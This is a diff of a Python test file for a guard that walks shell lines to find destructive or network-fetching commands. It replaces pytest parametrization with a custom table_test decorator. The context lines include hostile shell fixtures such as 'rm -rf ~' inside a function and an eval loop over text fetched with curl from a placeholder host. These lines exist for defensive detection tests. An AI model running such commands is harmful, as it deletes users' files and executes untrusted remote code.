@@ -1,6 +1,5 @@
 """The walker: every command that a line can run is found, with what the line makes certain resolved."""
 
-import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
@@ -29,6 +28,7 @@ from donewhen.guard.walk.walk import Found, walk
 from donewhen.shell import parse
 from tests.examples import many
 from tests.guard.calls import GROUND
+from tests.tables import table_test
 
 HOME = Deletes("/home/dev", True)
 HERE = GROUND.workspace
@@ -204,7 +204,7 @@ f() { return; rm -rf ~; }; f
 """
 
 
-@pytest.mark.parametrize("line", HOME_IS_DELETED.strip().splitlines())
+@table_test("line", HOME_IS_DELETED.strip().splitlines())
 def test_what_can_run_is_found(line: str) -> None:
     assert has(line, HOME)
 
@@ -220,7 +220,7 @@ DOCUMENTS = [
 ]
 
 
-@pytest.mark.parametrize("line", DOCUMENTS)
+@table_test("line", DOCUMENTS)
 def test_here_documents_are_code_where_a_shell_reads_them(line: str) -> None:
     assert has(line, HOME)
 
@@ -236,7 +236,7 @@ NOTHING_IS_DELETED = [
 ]
 
 
-@pytest.mark.parametrize("line", NOTHING_IS_DELETED)
+@table_test("line", NOTHING_IS_DELETED)
 def test_text_that_nothing_runs_is_data(line: str) -> None:
     assert Deletes not in kinds(line)
     assert unknowns(line) == set()
@@ -282,7 +282,7 @@ docker run --rm -d postgres:16
 """
 
 
-@pytest.mark.parametrize("line", ORDINARY.strip().splitlines())
+@table_test("line", ORDINARY.strip().splitlines())
 def test_daily_work_leaves_nothing_unknown(line: str) -> None:
     assert kinds(line).isdisjoint({Unknown, Loads, Disguises, Exhausts, Raises, RunsFetched})
 
@@ -310,7 +310,7 @@ UNKNOWN = [
 ]
 
 
-@pytest.mark.parametrize(("line", "what"), UNKNOWN)
+@table_test(("line", "what"), UNKNOWN)
 def test_what_cannot_be_told_is_said(line: str, what: str) -> None:
     assert what in unknowns(line)
 
@@ -348,7 +348,7 @@ while read -r l; do eval "$l"; done < <(curl -s https://x.example)
 """
 
 
-@pytest.mark.parametrize("line", FETCHED.strip().splitlines())
+@table_test("line", FETCHED.strip().splitlines())
 def test_text_from_the_network_that_runs_is_found(line: str) -> None:
     assert RunsFetched in kinds(line)
 
@@ -422,7 +422,7 @@ FOUND: list[tuple[str, Effect]] = [
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize(("line", "effect"), FOUND)
+@table_test(("line", "effect"), FOUND)
 def test_effects_of_the_shell_itself(line: str, effect: Effect) -> None:
     assert has(line, effect)
 
@@ -433,7 +433,7 @@ def test_a_glob_in_the_command_word_is_tried_against_programs_that_matter() -> N
     assert unknowns(line) == {"guard.unknown_command"}
 
 
-@pytest.mark.parametrize(
+@table_test(
     ("line", "by", "elsewhere"),
     [
         ("rm -rf ~", (), ""),
@@ -466,7 +466,7 @@ f() { cd /; }; rm -rf x
 """
 
 
-@pytest.mark.parametrize("line", STAYS_HERE.strip().splitlines())
+@table_test("line", STAYS_HERE.strip().splitlines())
 def test_what_another_process_does_leaves_this_shell_where_it_is(line: str) -> None:
     assert [one for one in effects(line) if isinstance(one, Deletes)] == [Deletes(f"{HERE}/x", True)]
 
@@ -481,7 +481,7 @@ def test_long_chains_are_walked_to_their_end() -> None:
     assert has(line, HOME)
 
 
-@pytest.mark.parametrize(
+@table_test(
     "line",
     [
         "for a in {1..9}x; do for b in {1..9}x; do for c in {1..9}x; do for d in {1..9}x; do ls; done; done; done; done",
